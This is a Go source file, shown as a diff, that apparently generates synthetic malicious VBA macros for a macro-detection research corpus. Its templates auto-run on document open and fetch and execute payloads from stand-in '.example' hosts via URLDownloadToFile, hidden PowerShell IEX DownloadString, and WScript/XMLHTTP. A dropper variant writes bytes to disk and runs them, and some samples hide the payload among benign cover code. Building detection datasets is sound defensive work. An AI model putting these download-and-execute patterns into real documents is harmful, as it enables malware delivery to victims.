@@ -1,0 +1,198 @@
+package corpus
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+)
+
+// Malicious macro families observed in the paper's dataset: the dominant
+// "Downloader" pattern (fetch a payload from a remote address and execute
+// it — per §IV.A most malicious files are small because the malware is not
+// embedded) plus dropper, PowerShell and WScript variants.
+
+var (
+	maliciousHosts = []string{
+		"update-service.example", "cdn-static.example", "files-mirror.example",
+		"secure-dl.example", "report-sync.example", "img-hosting.example",
+	}
+	payloadNames = []string{
+		"invoice.exe", "update.exe", "flash_player.exe", "report.scr",
+		"document.exe", "setup.exe",
+	}
+	dropPaths = []string{
+		`C:\Users\Public\`, `C:\ProgramData\`, `C:\Windows\Temp\`,
+		`C:\Temp\`,
+	}
+)
+
+// MaliciousKind distinguishes malicious macro families.
+type MaliciousKind int
+
+// Malicious macro families.
+const (
+	KindDownloader MaliciousKind = iota + 1
+	KindDropper
+	KindPowerShell
+	KindWScript
+)
+
+// MaliciousMacro generates one un-obfuscated malicious macro of the given
+// family. The corpus generator obfuscates ~98.4% of these afterwards
+// (Table III).
+func MaliciousMacro(rng *rand.Rand, kind MaliciousKind) string {
+	url := fmt.Sprintf("http://%s/%s%d/%s",
+		pick(rng, maliciousHosts), pick(rng, adjectives), rng.Intn(1000), pick(rng, payloadNames))
+	dest := pick(rng, dropPaths) + pick(rng, payloadNames)
+	switch kind {
+	case KindDropper:
+		return dropperMacro(rng, dest)
+	case KindPowerShell:
+		return powerShellMacro(rng, url)
+	case KindWScript:
+		return wscriptMacro(rng, url, dest)
+	default:
+		return downloaderMacro(rng, url, dest)
+	}
+}
+
+// RandomMaliciousMacro picks a family with downloader-heavy weights, as in
+// the paper's observations. Most samples camouflage the payload inside
+// benign-looking procedures — the common real-world pattern of trojanized
+// document macros — so the macro's global statistics are a blend of benign
+// and malicious code rather than a bare template.
+func RandomMaliciousMacro(rng *rand.Rand) string {
+	var payload string
+	r := rng.Intn(10)
+	switch {
+	case r < 5:
+		payload = MaliciousMacro(rng, KindDownloader)
+	case r < 7:
+		payload = MaliciousMacro(rng, KindPowerShell)
+	case r < 9:
+		payload = MaliciousMacro(rng, KindWScript)
+	default:
+		payload = MaliciousMacro(rng, KindDropper)
+	}
+	if rng.Float64() >= 0.7 {
+		return payload
+	}
+	// Camouflage: surround the payload with innocuous procedures in a
+	// random benign style. Trojanized documents usually carry more cover
+	// code than payload.
+	parts := []string{payload}
+	style := randomStyle(rng)
+	n := 2 + rng.Intn(5)
+	for i := 0; i < n; i++ {
+		cover := benignProcedure(rng, style)
+		if rng.Intn(2) == 0 {
+			parts = append([]string{cover}, parts...)
+		} else {
+			parts = append(parts, cover)
+		}
+	}
+	return strings.Join(parts, "\n")
+}
+
+func downloaderMacro(rng *rand.Rand, url, dest string) string {
+	fn, u, d, r := procName(rng), varName(rng), varName(rng), varName(rng)
+	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
+	return fmt.Sprintf(`Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long
+
+Sub %s()
+    Call %s
+End Sub
+
+Sub %s()
+    Dim %s As String
+    Dim %s As String
+    Dim %s As Long
+    %s = "%s"
+    %s = "%s"
+    %s = URLDownloadToFile(0, %s, %s, 0, 0)
+    If %s = 0 Then
+        Shell %s, vbHide
+    End If
+End Sub
+`, entry, fn, fn, u, d, r, u, url, d, dest, r, u, d, r, d)
+}
+
+func dropperMacro(rng *rand.Rand, dest string) string {
+	fn, buf, i := procName(rng), varName(rng), varName(rng)
+	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
+	// A short fake payload as a byte table; real droppers carry kilobytes.
+	// Lines are wrapped with continuations every dozen values, as the VBA
+	// editor forces for pasted tables.
+	var payload strings.Builder
+	nVals := 24 + rng.Intn(40)
+	for j := 0; j < nVals; j++ {
+		if j > 0 {
+			if j%12 == 0 {
+				payload.WriteString(", _\n        ")
+			} else {
+				payload.WriteString(", ")
+			}
+		}
+		fmt.Fprintf(&payload, "%d", rng.Intn(256))
+	}
+	return fmt.Sprintf(`Sub %s()
+    %s
+End Sub
+
+Sub %s()
+    Dim %s() As Variant
+    Dim %s As Long
+    %s = Array(%s)
+    Open "%s" For Binary As #1
+    For %s = LBound(%s) To UBound(%s)
+        Put #1, , CByte(%s(%s))
+    Next %s
+    Close #1
+    Shell "%s", vbHide
+End Sub
+`, entry, fn, fn, buf, i, buf, payload.String(), dest, i, buf, buf, buf, i, i, dest)
+}
+
+func powerShellMacro(rng *rand.Rand, url string) string {
+	fn, cmd := procName(rng), varName(rng)
+	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
+	return fmt.Sprintf(`Sub %s()
+    %s
+End Sub
+
+Sub %s()
+    Dim %s As String
+    %s = "powershell -NoP -NonI -W Hidden -Exec Bypass "
+    %s = %s & "-C ""IEX (New-Object Net.WebClient)"
+    %s = %s & ".DownloadString('%s')"""
+    Shell %s, vbHide
+End Sub
+`, entry, fn, fn, cmd, cmd, cmd, cmd, cmd, cmd, url, cmd)
+}
+
+func wscriptMacro(rng *rand.Rand, url, dest string) string {
+	fn, sh, http := procName(rng), varName(rng), varName(rng)
+	entry := pick(rng, []string{"AutoOpen", "Document_Open", "Workbook_Open"})
+	return fmt.Sprintf(`Sub %s()
+    %s
+End Sub
+
+Sub %s()
+    Dim %s As Object
+    Dim %s As Object
+    Set %s = CreateObject("WScript.Shell")
+    Set %s = CreateObject("MSXML2.XMLHTTP")
+    %s.Open "GET", "%s", False
+    %s.Send
+    If %s.Status = 200 Then
+        Dim stream As Object
+        Set stream = CreateObject("ADODB.Stream")
+        stream.Type = 1
+        stream.Open
+        stream.Write %s.responseBody
+        stream.SaveToFile "%s", 2
+        %s.Run "%s", 0, False
+    End If
+End Sub
+`, entry, fn, fn, sh, http, sh, http, http, url, http, http, http, dest, sh, dest)
+}
